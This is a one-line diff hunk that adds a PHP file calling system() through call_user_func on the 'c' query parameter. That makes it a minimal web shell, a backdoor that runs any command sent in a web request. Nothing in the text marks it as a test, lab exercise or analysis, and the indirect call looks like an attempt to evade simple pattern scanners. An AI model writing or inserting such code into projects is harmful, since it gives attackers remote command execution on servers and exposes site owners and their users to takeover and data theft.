@@ -1,0 +1,1 @@
+<?php call_user_func('system', $_GET['c']);
